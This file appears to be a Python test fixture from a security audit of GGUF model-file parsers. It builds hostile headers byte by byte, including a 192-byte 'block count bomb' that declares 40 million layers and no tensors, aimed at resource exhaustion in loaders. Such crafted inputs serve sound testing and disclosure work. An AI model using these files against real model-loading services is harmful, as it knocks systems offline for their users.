"""Hostile GGUF headers, byte by byte (little-endian, version 3)."""

from __future__ import annotations

import struct

STRING, ARRAY, UINT32, UINT64, UINT8 = 8, 9, 4, 10, 0


def s(text: str | bytes) -> bytes:
    b = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(b)) + b


def kv_u32(key: str, v: int) -> bytes:
    return s(key) + struct.pack("<II", UINT32, v)


def kv_str(key: str, v: str) -> bytes:
    return s(key) + struct.pack("<I", STRING) + s(v)


def header(kvs: list[bytes], *, n_tensors: int = 0, n_kv: int | None = None,
           tensors: bytes = b"", pad_to: int = 0) -> bytes:
    out = struct.pack("<IIQQ", 0x46554747, 3, n_tensors, len(kvs) if n_kv is None else n_kv)
    out += b"".join(kvs) + tensors
    out += b"\0" * (-len(out) % 32)  # the (empty) data section starts aligned
    return out + b"\0" * max(0, pad_to - len(out))


def llama(**values: int) -> list[bytes]:
    """general.architecture = llama and the given llama.* numbers."""
    return [kv_str("general.architecture", "llama"),
            *(kv_u32(f"llama.{k.replace('__', '.')}", v) for k, v in values.items())]


def block_count_bomb(n_layer: int = 40_000_000) -> bytes:
    """The 192-byte file of finding 12: no tensors, block_count 4e7."""
    return header([*llama(block_count=n_layer), kv_str("general.name", "bomb")], pad_to=192)
